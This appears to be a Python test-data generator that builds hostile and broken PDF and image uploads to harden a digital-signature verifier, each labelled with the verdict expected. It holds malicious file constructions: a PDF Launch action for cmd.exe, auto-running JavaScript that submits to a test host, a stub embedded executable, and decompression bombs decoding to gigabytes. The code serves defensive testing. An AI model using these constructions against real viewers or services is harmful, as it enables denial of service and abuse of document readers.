"""Hostile and broken uploads for the hardening tests and benchmark: every file is
what a careless or malicious unit could send, each labelled with what a correct
verifier must conclude about it.

    uv run python -m sample_evidence.generator.hostile OUT [--small]

Labels (as in ../shared/corpus, see ``ALLOWED``): ``tampered`` (changed after
signing: ``invalid``), ``broken`` (``error`` or ``invalid``, never ``valid``),
``any`` (any verdict, as long as there is one with its reasons). Built at test time from the
sample's signed documents and screenshots, never committed: some are large.
"""

from __future__ import annotations

import argparse
import io
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

SAMPLE = Path(__file__).resolve().parent.parent
SIGNED = SAMPLE / "uploads" / "ubnd-huyen" / "ky-so-to-chuc" / "cv-2018-10-13-nguyen-van-an.pdf"
"""A valid công văn signed by a leader and then the organization."""


ALLOWED = {"tampered": {"invalid"}, "intact": {"valid", "indeterminate"},
           "broken": {"error", "invalid"}, "unsigned": {"unsigned"},
           "any": {"valid", "invalid", "indeterminate", "unsigned", "error"}}
"""Verdicts a correct verifier may give a file with each label (the corpus's labels
and ``any``)."""


@dataclass(frozen=True)
class Hostile:
    name: str
    expected: str
    """tampered | broken | any"""
    what: str


def _screenshot() -> bytes:
    shots = sorted((SAMPLE / "uploads").rglob("*.png"))
    return shots[0].read_bytes()


def _pdf_with(extra: str) -> bytes:
    """A one-page PDF with text, plus ``extra`` (JavaScript, an attachment…)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    w = PdfWriter()
    w.add_blank_page(595, 842)
    if extra == "javascript":
        from pypdf.actions import JavaScript

        w.add_open_action(JavaScript(
            "app.alert('kiemchung'); this.submitForm('http://example.test/');"))
    elif extra == "attachment":
        w.add_attachment("payload.exe", b"MZ" + b"\0" * 4096)
    elif extra == "launch":
        w._root_object[NameObject("/OpenAction")] = w._add_object(DictionaryObject({
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe")}))
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _encrypted(user_password: str, algorithm: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(SIGNED))
    w.encrypt(user_password=user_password, owner_password="owner", algorithm=algorithm)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _signed_then(change: str) -> bytes:
    """The signed công văn with an incremental update added after signing."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(SIGNED.read_bytes()))
    if change == "javascript":
        js = w.add_object(generic.DictionaryObject({
            generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
            generic.pdf_name("/JS"): generic.pdf_string("app.alert('sửa sau khi ký')")}))
        w.root[generic.pdf_name("/OpenAction")] = js
        w.update_root()
    elif change == "page":
        stream = generic.StreamObject(stream_data=b"q 1 1 1 rg 80 560 450 60 re f Q")
        w.add_stream_to_page(0, w.add_object(stream))
    elif change == "attachment":
        ef = w.add_object(generic.StreamObject(stream_data=b"MZ" + b"\0" * 512))
        spec = w.add_object(generic.DictionaryObject({
            generic.pdf_name("/Type"): generic.pdf_name("/Filespec"),
            generic.pdf_name("/F"): generic.pdf_string("x.exe"),
            generic.pdf_name("/EF"): generic.DictionaryObject({generic.pdf_name("/F"): ef})}))
        w.root[generic.pdf_name("/Names")] = generic.DictionaryObject({
            generic.pdf_name("/EmbeddedFiles"): generic.DictionaryObject({
                generic.pdf_name("/Names"): generic.ArrayObject(
                    [generic.pdf_string("x.exe"), spec])})})
        w.update_root()
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _flip_in_signed_range(pdf: bytes, late: bool) -> bytes:
    """One byte changed inside what the last signature covers: in the first of its
    two byte ranges, or in the second (after its /Contents)."""
    import re

    ranges = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", pdf)
    a, b, c, d = (int(x) for x in ranges[-1])
    i = c + d // 2 if late else a + b // 5
    data = bytearray(pdf)
    while data[i] in b"\r\n \t":
        i += 1
    data[i] = ord("7") if data[i] != ord("7") else ord("8")
    return bytes(data)


def _many_pages(n: int) -> bytes:
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=(595, 842))
    for i in range(n):
        c.drawString(72, 770, f"Trang {i + 1}: Tong so van ban di: {i}")
        c.showPage()
    c.save()
    return out.getvalue()


def _png_bomb(side: int) -> bytes:
    """A PNG whose header promises side × side grey pixels, all of them zero: a few
    hundred KB on disk, side² bytes once decoded."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + \
            struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    comp = zlib.compressobj(9)
    row = b"\0" * (side + 1)
    parts = [comp.compress(row) for _ in range(side)]
    parts.append(comp.flush())
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"".join(parts))
            + chunk(b"IEND", b""))


def _jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims huge dimensions."""
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(buf, "JPEG")
    data = bytearray(buf.getvalue())
    sof = data.find(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _pdf_image_bomb(side: int) -> bytes:
    """A PDF page showing one Flate image of side × side grey pixels, all zero."""
    from pypdf import PdfWriter
    from pypdf.generic import (
        DecodedStreamObject,
        DictionaryObject,
        NameObject,
        NumberObject,
        StreamObject,
    )

    w = PdfWriter()
    page = w.add_blank_page(595, 842)
    img = StreamObject()
    comp = zlib.compressobj(9)
    row = b"\0" * side
    img._data = b"".join(comp.compress(row) for _ in range(side)) + comp.flush()
    img.update({NameObject("/Type"): NameObject("/XObject"),
                NameObject("/Subtype"): NameObject("/Image"),
                NameObject("/Width"): NumberObject(side), NameObject("/Height"): NumberObject(side),
                NameObject("/ColorSpace"): NameObject("/DeviceGray"),
                NameObject("/BitsPerComponent"): NumberObject(8),
                NameObject("/Filter"): NameObject("/FlateDecode")})
    ref = w._add_object(img)
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): DictionaryObject(
        {NameObject("/Im0"): ref})})
    content = DecodedStreamObject()
    content.set_data(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    page[NameObject("/Contents")] = w._add_object(content)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF written by hand, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, xref)
    return bytes(out)


def _content_bomb(mib: int) -> bytes:
    """One page whose content stream inflates to ``mib`` MiB of text operators."""
    comp = zlib.compressobj(9)
    line = b"BT /F1 12 Tf 72 700 Td (x) Tj ET\n"
    chunk = line * (1024 * 1024 // len(line))
    data = b"".join(comp.compress(chunk) for _ in range(mib)) + comp.flush()
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"])


def _page_tree_loop() -> bytes:
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])


def _deep_nesting(depth: int) -> bytes:
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])


def _xref_loop() -> bytes:
    """An incremental update whose /Prev points at itself."""
    base = _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [] /Count 0 >>"])
    xref = len(base)
    return base + (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 3 /Root 1 0 R "
                   b"/Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (xref, xref))


def _fake_signature() -> bytes:
    """A signature field whose /Contents is not CMS at all and whose /ByteRange
    points outside the file."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /SigFlags 3 >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (ChuKy) /Rect [0 0 0 0] /P 3 0 R "
        b"/V 5 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
        b"/ByteRange [0 10 999999 10] /Contents <3082000130> >>"])


def build_hostile(out: Path, large: bool = True) -> list[Hostile]:
    """Write the hostile files into ``out``; return their labels. ``large`` adds the
    expensive ones (1,000 pages, bombs decoding to GBs)."""
    out.mkdir(parents=True, exist_ok=True)
    signed = SIGNED.read_bytes()
    shot = _screenshot()
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("bao-cao.docx", b"PK not really")
    files: list[tuple[str, bytes, str, str]] = [
        ("truncated-half.pdf", signed[: len(signed) // 2], "broken", "signed PDF cut in half"),
        ("truncated-tail.pdf", signed[:-40], "broken", "signed PDF missing its last bytes"),
        ("truncated-header.pdf", signed[:9], "broken", "only the %PDF header"),
        ("flipped-early.pdf", _flip_in_signed_range(signed, late=False), "tampered",
         "one byte changed in the first signed byte range"),
        ("flipped-late.pdf", _flip_in_signed_range(signed, late=True), "tampered",
         "one byte changed in the signed byte range after /Contents"),
        ("signed-then-page.pdf", _signed_then("page"), "tampered",
         "page painted over in an update after signing"),
        ("signed-then-javascript.pdf", _signed_then("javascript"), "tampered",
         "JavaScript OpenAction added after signing"),
        ("signed-then-attachment.pdf", _signed_then("attachment"), "tampered",
         "embedded executable added after signing"),
        ("javascript.pdf", _pdf_with("javascript"), "any", "unsigned PDF with JavaScript"),
        ("attachment.pdf", _pdf_with("attachment"), "any", "unsigned PDF with an embedded file"),
        ("launch-action.pdf", _pdf_with("launch"), "any", "unsigned PDF with a Launch action"),
        ("encrypted-user-password.pdf", _encrypted("secret", "AES-256"), "broken",
         "signed PDF re-saved with a user password (AES-256)"),
        ("encrypted-empty-password.pdf", _encrypted("", "RC4-128"), "broken",
         "signed PDF re-saved encrypted with an empty user password"),
        ("png-named.pdf", shot, "any", "a screenshot PNG with a .pdf name"),
        ("pdf-named.png", signed, "any", "a signed PDF with a .png name"),
        ("zip-named.pdf", zbuf.getvalue(), "broken", "a zip archive with a .pdf name"),
        ("random-after-header.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 64, "broken",
         "a PDF header followed by noise"),
        ("page-tree-loop.pdf", _page_tree_loop(), "any", "a page tree that contains itself"),
        ("deep-nesting.pdf", _deep_nesting(50_000), "any", "50,000 nested arrays"),
        ("xref-loop.pdf", _xref_loop(), "any", "a cross-reference chain that loops"),
        ("fake-signature.pdf", _fake_signature(), "broken",
         "a signature field with garbage /Contents and an impossible /ByteRange"),
        ("huge-dimensions.jpg", _jpeg_claiming(65_000, 65_000), "broken",
         "a JPEG claiming 65,000 × 65,000 pixels"),
        ("truncated.png", shot[: len(shot) // 3], "broken", "a screenshot cut short"),
        ("png-bomb-small.png", _png_bomb(8_000), "broken",
         "8,000 × 8,000 grey pixels in a small PNG (above the pixel limit)"),
    ]
    from sample_evidence.generator.attacks import ATTACKS

    files += [(name, fn(), "tampered", what) for name, (fn, what) in ATTACKS.items()]
    if large:
        files += [
            ("thousand-pages.pdf", _many_pages(1000), "any", "1,000 pages of text"),
            ("png-bomb.png", _png_bomb(30_000), "broken",
             "a 900-megapixel PNG that is mostly zeros"),
            ("pdf-image-bomb.pdf", _pdf_image_bomb(20_000), "any",
             "a PDF page with a 400-megapixel Flate image"),
            ("content-bomb.pdf", _content_bomb(512), "any",
             "a content stream inflating to 512 MiB"),
        ]
    labels = []
    for name, data, expected, what in files:
        (out / name).write_bytes(data)
        labels.append(Hostile(name, expected, what))
    (out / "expected.tsv").write_text(
        "file\texpected\twhat\n" + "".join(f"{h.name}\t{h.expected}\t{h.what}\n"
                                           for h in labels), encoding="utf-8")
    return labels


def labelled_files(out: Path, corpus: Path | None = None, large: bool = True
                   ) -> list[tuple[Path, str, str]]:
    """(path, label, where from) of every file the hardening checks try: the generated
    hostile files (written into ``out``), the labelled corpus in ``corpus`` (its
    expected.tsv, as ../shared/corpus/pyhanko has) when there is one, and the sample's
    documents changed after signing."""
    import csv
    import json

    files = [(out / h.name, h.expected, "generated") for h in build_hostile(out, large=large)]
    if corpus is not None and (corpus / "expected.tsv").is_file():
        with (corpus / "expected.tsv").open(encoding="utf-8") as f:
            files += [(corpus / r["file"], r["expected"], "pyhanko corpus")
                      for r in csv.DictReader(f, delimiter="\t")]
    manifest = json.loads((SAMPLE / "expected.json").read_text(encoding="utf-8"))
    files += [(SAMPLE / "uploads" / rel, "tampered", "sample") for rel, e in
              manifest["files"].items() if e.get("fault") in ("modified", "decree30_body")]
    return files


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--small", action="store_true", help="leave out the expensive files")
    a = ap.parse_args(argv)
    labels = build_hostile(a.out, large=not a.small)
    print(f"{len(labels)} hostile files in {a.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
